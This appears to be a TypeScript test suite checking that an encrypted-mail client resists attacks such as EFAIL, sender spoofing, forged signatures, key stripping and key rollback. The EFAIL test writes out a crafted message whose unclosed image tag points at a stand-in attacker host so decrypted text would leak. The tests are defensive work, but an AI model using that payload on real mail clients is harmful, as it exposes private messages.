import { beforeEach, describe, expect, it } from 'vitest';
import { type Sealer, sealedMail, sealer } from '../support/sealed.js';
import { useAttackedAccount } from './account-support.js';

const ADA = 'ada@example.org';
const attacked = useAttackedAccount();
let ada: Sealer;
let bob: Sealer;
const log: string[] = [];

beforeEach(async () => {
  [ada, bob] = await Promise.all([sealer(ADA), sealer('bob@example.net')]);
  log.length = 0;
  const logger = { log: (...args: unknown[]) => void log.push(JSON.stringify(args)) };
  const account = await attacked.start({ logger });
  await account.keys.import(ada.key.armored());
});

let count = 0;

function letter(text: string, more: Partial<Parameters<typeof sealedMail>[0]> = {}): Promise<Uint8Array> {
  return sealedMail({
    from: bob,
    to: [ada],
    text,
    id: `chat$${++count}@example.net`,
    date: Date.now() - 60_000,
    ...more,
  });
}

function latin(bytes: Uint8Array): string {
  return Buffer.from(bytes).toString('latin1');
}

describe('an account that gets encrypted mail', () => {
  it('does not open an encrypted part that stands beside others (EFAIL)', async () => {
    const sealed = latin(await letter('the plaintext'));
    const at = sealed.indexOf('\r\n\r\n');
    const type = /^Content-Type:[^\r]*(?:\r\n[ \t][^\r]*)*/im.exec(sealed.slice(0, at))?.[0] ?? '';
    const message = await attacked.attack(
      [
        ...['From: bob@example.net', `To: ${ADA}`, 'Message-ID: <efail@example.net>', 'MIME-Version: 1.0'],
        ...['Content-Type: multipart/mixed; boundary=x', '', '--x', 'Content-Type: text/html', ''],
        ...['<img src="http://evil.example/', '--x', type, '', sealed.slice(at + 4), '--x'],
        ...['Content-Type: text/html', '', '">', '--x--', ''],
      ].join('\r\n'),
    );
    expect(message.text).not.toContain('the plaintext');
    expect(message.html ?? '').not.toContain('the plaintext');
    expect(message.security).toMatchObject({ encrypted: false, warnings: ['encrypted-part-ignored'] });
  });

  it('shows the outer sender where another one stands inside, and says so', async () => {
    const sealed = latin(await letter('I am Bob'));
    const message = await attacked.attack(
      Buffer.from(sealed.replace(/^From: .*$/m, 'From: eve@example.com'), 'latin1'),
    );
    expect(message.from.address).toBe('eve@example.com');
    expect(message.security.signature).not.toBe('valid');
    expect(message.security.warnings).toContain('from-mismatch');
  });

  it('does not take a signature by somebody else for one of the sender', async () => {
    const eve = await sealer('bob@example.net');
    await attacked.attack(await letter('the real Bob'));
    const forged = await attacked.attack(await letter('not Bob', { from: eve, withHeader: false }));
    expect(forged.security).toMatchObject({ encrypted: true, signature: 'unknown-key' });
  });

  it('goes on to encrypt when the key is stripped from later mail', async () => {
    const first = await attacked.attack(await letter('with a key'));
    const answer = await first.reply('an answer');
    expect(answer.security.encrypted).toBe(true);
    await attacked.attack(await letter('without', { withHeader: false, sealed: false }));
    const later = await (await attacked.account.chat(bob.address)).send('still sealed');
    expect(later.security.encrypted).toBe(true);
  });

  it('is not led back to an old key by an old mail', async () => {
    const old = await sealer('bob@example.net');
    await attacked.attack(await letter('new', { date: Date.now() - 1000 }));
    await attacked.attack(
      await letter('replayed', { from: old, date: Date.now() - 90 * 24 * 3600_000, sealed: false }),
    );
    const contact = await attacked.account.contacts.get(bob.address);
    expect(contact.keyFingerprint).toBe(bob.key.fingerprint);
  });

  it('takes what is damaged as a message that says so, and the next mail as ever', async () => {
    const sealed = latin(await letter('damaged'));
    const middle = sealed.indexOf('-----END PGP MESSAGE') - 200;
    const broken = `${sealed.slice(0, middle)}AAAA${sealed.slice(middle + 4)}`;
    const message = await attacked.attack(Buffer.from(broken, 'latin1'));
    expect(message.problem?.code).toBe('undecryptable');
    expect(message.text).toBe('');
    expect((await attacked.attack(await letter('fine'))).text).toBe('fine');
    await attacked.expectGoingOn();
  });

  it('keeps what is inside out of the log', async () => {
    await attacked.attack(
      await letter('MARKER-OF-THE-SECRET', {
        attachments: [{ filename: 'MARKER-FILE.txt', content: Buffer.from('x') }],
      }),
    );
    await attacked.attack(await letter('MARKER-TWO', { withHeader: false }));
    expect(log.join('\n')).not.toContain('MARKER');
  });
});
